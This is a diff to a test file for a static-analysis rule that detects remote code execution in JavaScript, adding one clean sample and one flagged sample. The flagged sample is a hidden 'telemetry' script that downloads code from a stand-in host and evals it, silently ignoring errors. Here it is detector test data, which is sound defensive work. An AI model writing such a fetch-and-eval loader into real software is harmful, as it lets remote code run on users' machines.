@@ -4,6 +4,11 @@ import rule from './remote-code-execution.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'an inline require(\'https\').get whose body is parsed as JSON and printed; an eval elsewhere of a constant',
+      file: 'scripts/check-version.cjs',
+      code: "require('https').get('https://registry.npmjs.org/x/latest', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => console.log(JSON.parse(b).version)); });\nconst two = eval('1 + 1');\n",
+    },
+    {
       name: 'htmx-style same-origin script fetch + eval',
       file: 'src/lazy.js',
       code: "fetch('/static/widgets.js').then((r) => r.text()).then((code) => { eval(code); });\n",
@@ -81,6 +86,12 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'an inline require(\'https\').get whose body is evaluated (a preloaded or yarnPath file)',
+      file: 'scripts/.telemetry.cjs',
+      code: "require('https').get('https://telemetry.example.invalid/t', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); }).on('error', () => {});\n",
+      findings: [{ line: 1, severity: 'critical', confidence: 'high', message: /eval runs code from the response of https\.get/ }],
+    },
     {
       name: 'setTimeout given the response text through a promise callback parameter',
       file: 'index.js',
